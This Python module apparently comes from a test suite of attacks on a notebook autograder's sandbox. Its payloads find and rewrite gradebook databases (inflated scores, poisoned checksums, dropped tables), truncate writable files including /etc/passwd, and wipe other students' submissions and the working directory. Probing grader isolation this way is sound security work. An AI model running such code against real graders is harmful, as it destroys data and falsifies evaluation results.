"""Changing what is recorded: gradebook, graded notebooks, others' submissions."""

from attack_kit import Attack

FIND = """
import glob, os, sqlite3
def places():
    yield from ("gradebook.db", "../../../gradebook.db", "../../gradebook.db")
    for folder, folders, names in os.walk("/"):
        folders[:] = [n for n in folders if n not in ("proc", "sys", "usr", "lib")]
        if folder.count("/") > 5:
            folders.clear()
        yield from (f"{folder}/{n}" for n in names if n.endswith(".db"))
    yield from glob.glob("/proc/*/cwd/gradebook.db")
    yield from glob.glob("/proc/*/root/*/*/gradebook.db")
def run(statement):
    for place in places():
        uri = f"file:{place}?mode=rw"
        try:
            with sqlite3.connect(uri, uri=True, timeout=0.1) as book:
                book.execute(statement)
                print("CHANGED", place)
        except sqlite3.Error:
            pass
"""
STATEMENTS = {
    "extra_credit": "update grade set extra_credit = 50",
    "manual_score": "update grade set manual_score = 99, needs_manual_grade = 0",
    "poisoned_cells": "update source_cell set source = 'pass', checksum = 'x'",
    "dropped": "drop table grade",
    "students": "delete from student",
}


def from_a_test(statement: str) -> dict[str, str]:
    """An answer that changes the gradebook while the grader calls it."""
    return {
        "energy": FIND + f"def energy(x):\n    run({statement!r})\n    return 0.0",
    }


ATTACKS = [
    *(
        Attack(
            name,
            f"SQL: {statement}",
            first=FIND + f"run({statement!r})",
            answers=from_a_test(statement),
        )
        for name, statement in STATEMENTS.items()
    ),
    Attack(
        "truncated",
        "every file that can be opened for writing is emptied",
        first="""
        import glob, os
        names = ["../../../gradebook.db", "../../../nbgrader_config.py"]
        names += glob.glob("../../../*/*/*/*") + glob.glob("../*")
        names += glob.glob("/proc/*/fd/*") + glob.glob("/run/*/*") + ["/etc/passwd"]
        for name in names:
            if "self" in name or f"/{os.getpid()}/" in name:
                continue
            try:
                size = os.path.getsize(name)
                os.truncate(name, 0)
                if size:
                    print("CHANGED", name)
            except OSError:
                pass
        """,
    ),
    Attack(
        "other_submission",
        "the submission of a fellow student is overwritten",
        first="""
        import glob, os, shutil
        for depth in range(1, 8):
            up = "../" * depth
            for name in glob.glob(f"{up}submitted/*/ps1/nn.ipynb") + glob.glob(
                f"{up}*_honest/ps1/nn.ipynb"
            ):
                try:
                    open(name, "w").close()
                    print("CHANGED", name)
                except OSError:
                    pass
        for process in glob.glob("/proc/*/cwd/submitted"):
            shutil.rmtree(process, ignore_errors=True)
            print("CHANGED", process)
        """,
    ),
    Attack(
        "graded_notebook",
        "the working directory's files are replaced, in case they are read again",
        first="""
        import os
        os.makedirs("../ps1", exist_ok=True)
        for name in ("nn.ipynb", "../ps1/nn.ipynb", "timestamp.txt", "../nn.html"):
            with open(name, "w") as file:
                file.write("{}")
        os.chmod(".", 0o777)
        """,
        answers={
            "energy": "import os, shutil\n"
            "def energy(x):\n    shutil.rmtree('.', ignore_errors=True)\n    return 0.0"
        },
    ),
]
